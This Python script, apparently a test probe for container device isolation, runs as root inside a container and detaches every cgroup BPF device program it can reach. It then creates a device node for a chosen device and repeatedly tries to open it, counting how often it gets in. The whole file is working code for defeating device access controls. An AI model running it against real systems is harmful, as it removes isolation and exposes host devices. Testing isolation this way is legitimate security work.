#!/usr/bin/env python3
"""Root of a container that wants a device it was not given: detaches every device program that it can reach, makes its
own node unless it has one from better times, and tries to open it again and again. Usage: intruder.py MAJOR MINOR FILE; runs until FILE is gone, then says
how often it tried and how often it got in."""
import os
import subprocess
import sys

major, minor, flag = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
detached = 0
for path, dirs, _ in os.walk("/sys/fs/cgroup"):
    shown = subprocess.run(["bpftool", "cgroup", "show", path], capture_output=True, text=True)
    for line in shown.stdout.splitlines()[1:]:
        words = line.split()
        if len(words) > 1 and words[0].isdigit() and "device" in words[1]:
            done = subprocess.run(["bpftool", "cgroup", "detach", path, words[1], "id", words[0]], capture_output=True)
            detached += done.returncode == 0
node = "/root/stolen"
if not os.path.exists(node):
    os.mknod(node, 0o20600, os.makedev(major, minor))
print("detached", detached, flush=True)
tries = opened = 0
errors = {}
while os.path.exists(flag):
    tries += 1
    try:
        os.close(os.open(node, os.O_RDONLY | os.O_NONBLOCK))
        opened += 1
    except OSError as error:
        errors[error.strerror] = errors.get(error.strerror, 0) + 1
print("tries", tries, "opened", opened, errors, flush=True)
